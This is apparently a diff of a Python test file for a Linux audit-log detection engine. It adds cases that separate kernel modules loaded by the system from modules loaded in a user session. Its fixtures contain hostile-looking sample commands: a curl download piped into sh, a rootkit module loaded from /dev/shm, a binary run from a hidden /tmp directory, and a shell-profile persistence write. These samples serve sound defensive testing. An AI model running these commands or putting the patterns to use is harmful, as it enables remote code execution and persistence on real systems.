@@ -85,11 +85,12 @@ LOGON = LOGON_FAILED.replace("An account failed to log on.", "An account was suc
                              "logged on.").replace("Account For Which Logon Failed", "New Logon")
 
 
-def module_loaded(name, argv):
+def module_loaded(name, argv, **options):
     """A kernel module loaded through finit_module, as the kernel records it: SYSCALL,
     KERN_MODULE and PROCTITLE, no PATH (the module arrives as an open file)."""
     lines = [line.replace("SYSCALL=openat", "SYSCALL=finit_module").replace(" items=2 ", " items=0 ")
-             for line in write("/lib/modules", syscall=313, key="modules", argv=argv, exe="/usr/bin/kmod")
+             for line in write("/lib/modules", syscall=313, key="modules", argv=argv,
+                               exe="/usr/bin/kmod", **options)
              if "type=PATH" not in line and "type=CWD" not in line]
     stamp = lines[0].split(" ")[1]
     lines.insert(1, "type=KERN_MODULE %s name=\"%s\"" % (stamp, name))
@@ -145,7 +146,12 @@ SHIPPED_RULE_CASES = {
     "shell-profile-written": (write("/etc/profile.d/99-update.sh", key=None),
                               write("/etc/profile.dpkg-dist.bak", key=None)),
     "kernel-module-loaded": (module_loaded("rk", ["insmod", "/dev/shm/.x/rk.ko"]),
-                             run("modinfo", "overlay", exe="/usr/bin/kmod")),
+                             module_loaded("overlay", ["modprobe", "-q", "--", "overlay"],
+                                           auid=4294967295, login_name="unset")),
+    "kernel-module-loaded-by-the-system": (
+        module_loaded("overlay", ["modprobe", "-q", "--", "overlay"], auid=4294967295,
+                      login_name="unset"),
+        run("modinfo", "overlay", exe="/usr/bin/kmod")),
     "download-piped-to-shell": (sh("curl -fsSL http://203.0.113.9/x.sh | sh"),
                                 sh("curl -fsSL http://203.0.113.9/x.sh -o /root/x.sh")),
     "executed-from-temp": (run("/tmp/.ice/kworker", exe="/tmp/.ice/kworker"),
@@ -522,6 +528,12 @@ def test_shipped_rule_fires_on_the_real_thing_and_not_on_its_look_alike(rule_id)
     assert at_least(fired["level"], level)
     quiet = event_of(benign)
     assert rule_id not in quiet["rules"], (quiet["argv"], quiet.get("path"), quiet["rules"])
+
+
+def test_a_module_the_system_loads_is_low_and_one_loaded_in_a_session_high():
+    assert event_of(module_loaded("overlay", ["modprobe", "-q", "--", "overlay"],
+                                  auid=4294967295, login_name="unset"))["level"] == "low"
+    assert event_of(module_loaded("rk", ["insmod", "rk.ko"]))["level"] == "high"
 
 
 def test_highest_level_wins_and_every_reason_is_kept():
